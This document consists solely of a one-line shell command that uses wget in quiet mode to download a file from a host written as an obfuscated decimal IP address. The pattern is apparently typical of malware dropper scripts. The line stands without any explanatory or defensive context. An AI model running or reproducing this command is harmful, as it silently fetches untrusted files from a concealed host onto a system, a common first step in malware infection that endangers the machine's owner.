wget -q http://759172105/a
